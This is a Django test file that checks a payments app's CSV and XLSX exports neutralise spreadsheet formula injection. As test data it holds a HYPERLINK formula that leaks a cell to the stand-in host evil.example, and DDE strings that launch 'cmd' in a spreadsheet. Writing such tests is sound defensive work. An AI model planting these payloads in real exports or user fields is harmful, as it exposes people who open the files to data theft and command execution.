"""Issue 14, finding 4: a text cell that a spreadsheet would run as a formula is neutralised in
every export (credit CSV and XLSX, the customer's own data, the merchant's payments CSV)."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from facepay.models import User
from facepay.spreadsheets import safe_cell
from tests.credit.factories import score_row
from tests.customers.factories import CustomerFactory
from tests.facepay.factories import UserFactory
from tests.merchants.factories import (
    MerchantFactory,
    StoreFactory,
    TerminalFactory,
    capture_payment,
)

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'


def signed_in(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def csv_cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-3800", "-3800"),
        ("-12.50", "-12.50"),
        ("Tea A", "Tea A"),
        (-3800, -3800),
        (None, None),
    ],
)
def test_safe_cell_neutralises_formula_text_only(value: object, expected: object) -> None:
    assert safe_cell(value) == expected


@pytest.mark.django_db
def test_credit_exports_write_a_formula_named_merchant_as_text() -> None:
    merchant = MerchantFactory(name=FORMULA, trade="bakery")
    score_row(merchant, period_start=date(2026, 10, 1))
    client = signed_in(UserFactory(role=User.Role.FINANCE_REVIEWER))

    cells = csv_cells(client.get(reverse("credit:export", args=["csv"])).content)
    sheet = load_workbook(
        io.BytesIO(client.get(reverse("credit:export", args=["xlsx"])).content)
    ).active

    assert "'" + FORMULA in cells
    assert FORMULA not in cells
    name_cell = sheet.cell(row=2, column=2)
    assert name_cell.data_type == "s"
    assert name_cell.value == "'" + FORMULA


@pytest.mark.django_db
def test_customer_csv_export_writes_a_formula_display_name_as_text() -> None:
    customer = CustomerFactory(user__display_name="@SUM(1+1)*cmd|' /C calc'!A0")
    client = signed_in(customer.user)

    cells = csv_cells(client.get(reverse("customers:export", args=["csv"])).content)

    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


@pytest.mark.django_db
def test_merchant_payments_csv_writes_formula_store_and_terminal_names_as_text() -> None:
    store = StoreFactory(name="=cmd|' /C calc'!A0")
    capture_payment(terminal=TerminalFactory(store=store, name="+SUM(1)"), amount_minor=3800)
    client = signed_in(store.merchant.owner)

    body = b"".join(client.get(reverse("merchants:payments_csv")).streaming_content)
    cells = csv_cells(body)

    assert "'=cmd|' /C calc'!A0" in cells
    assert "'+SUM(1)" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
